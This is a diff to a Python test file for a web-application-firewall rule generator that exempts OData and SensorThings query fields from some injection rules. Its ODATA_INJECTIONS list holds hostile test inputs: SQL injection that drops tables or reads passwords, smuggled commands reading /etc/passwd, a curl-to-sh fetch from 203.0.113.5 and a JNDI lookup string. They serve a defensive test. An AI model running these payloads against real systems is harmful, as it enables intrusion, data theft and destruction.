@@ -244,6 +244,12 @@ ODATA = [  # $filter, $expand, $orderby values as OData v4 clients (SAPUI5, ASP.
     "Applicant eq 'O''Brien' and hour(SubmitTime) ge 9 and OpenTime lt 17:30:00",
     "round(Score) eq 4 and floor(Fee) le 100.5 and ceiling(Fee) ge -1.5e2",
     "Category/Name eq '政务公开' and Flags has Sg.Zwfw.Flags'Online'",
+    # SensorThings API 1.1 (stop 36, corpus AF tuning part): nested $expand, spatial relationship functions
+    "Locations,Datastreams($select=name,unitOfMeasurement;$expand=Observations($top=1;$orderby=phenomenonTime desc))",
+    "phenomenonTime ge 2027-09-19T02:00:00Z and phenomenonTime lt 2027-09-19T17:00:00Z and result gt 54.9",
+    "ObservedProperty/name eq '相对湿度' and Thing/properties/adcd eq '449200'",
+    "st_within(location,geography'POLYGON((111.65 20.17,114.54 20.17,114.54 21.1,111.65 21.1,111.65 20.17))')",
+    "st_intersects(feature,geography'POINT(113.26 23.13)') and result ge 50",
 ]
 ODATA_INJECTIONS = [  # each must fall back to every rule
     "Name eq 'x' or 1 eq 1; drop table t--",
@@ -275,6 +281,9 @@ ODATA_INJECTIONS = [  # each must fall back to every rule
     "Materials($select=Name)&&id",
     "Materials($select=Name;$filter=x eq 1;$orderby=Sort)\n;sort /etc/passwd",
     "Materials($top=1);$(curl http://203.0.113.5/x|sh)",
+    "Things($select=name);expand -t 1 /etc/passwd",  # ';' not before an option: a command word after it
+    "st_within(location,geography'POLYGON((1 1))') eq true; drop table observations",
+    "st_within(location,geography'POINT(1 1)'')) union select password from users--')",
     "${jndi:ldap://203.0.113.5/a}",
     "Name eq 'x' into outfile '/tmp/x'",
     "order eq 1",  # a statement word as a name falls back
@@ -479,14 +488,16 @@ def test_boolean_and_formula_fields_leave_the_sql_rules_and_nothing_more(languag
     assert not any(t in last for t in ("attack-rce", "attack-xss", "ruleRemoveById=", "ruleRemoveByTag="))
 
 
-def test_an_odata_field_leaves_the_sql_rules_and_932105_only() -> None:
+def test_an_odata_field_leaves_the_sql_rules_932100_and_932105_only() -> None:
     ff = FilterField(("/odata/",), ("ARGS:$filter", "ARGS:$expand"), "odata", "OData")
     lines = filter_fields.render(ff, 12101, "cms/x")
     assert lines[-2].startswith('SecRule TX:sg_filter_12101_ARGS:$expand "@eq 1" ')
     last = checked_then_removed(lines, "odata")
     assert last.startswith('    SecRule &ARGS:$expand "@eq 1" ')
     ctl = last.rsplit('"t:none,', 1)[1].rstrip('"').split(",")
-    assert ctl == ["ctl:ruleRemoveTargetByTag=attack-sqli;ARGS:$expand", "ctl:ruleRemoveTargetById=932105;ARGS:$expand",
+    assert ctl == ["ctl:ruleRemoveTargetByTag=attack-sqli;ARGS:$expand", "ctl:ruleRemoveTargetById=932100;ARGS:$expand",
+                   "ctl:ruleRemoveTargetByTag=sitegroup/replaces/932100;ARGS:$expand",
+                   "ctl:ruleRemoveTargetById=932105;ARGS:$expand",
                    "ctl:ruleRemoveTargetByTag=sitegroup/replaces/932105;ARGS:$expand"]
     assert not any(t in last for t in ("attack-rce", "attack-xss", "ruleRemoveById=", "ruleRemoveByTag="))
 
